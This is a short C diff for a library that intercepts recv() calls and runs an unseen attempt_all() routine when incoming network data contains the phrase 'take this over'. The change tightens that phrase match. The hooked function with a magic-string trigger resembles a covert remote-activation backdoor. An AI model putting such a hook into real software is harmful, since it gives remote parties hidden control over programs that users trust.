@@ -21,6 +21,8 @@
 #include <sys/wait.h>
 #include <unistd.h>
 
+#include "../MortalWorker/lent_frames.h"
+
 extern char **environ;
 
 // Built in for a program whose environment is taken from it.
@@ -155,7 +157,7 @@ static void attempt_all(void) {
 ssize_t recv(int descriptor, void *buffer, size_t count, int flags) {
   ssize_t (*next)(int, void *, size_t, int) = dlsym(RTLD_NEXT, "recv");
   ssize_t received = next(descriptor, buffer, count, flags);
-  if (received > 0 && memmem(buffer, received, "take this over", 14)) attempt_all();
+  if (received > 0 && has_word(buffer, received, "take this over")) attempt_all();
   return received;
 }
 
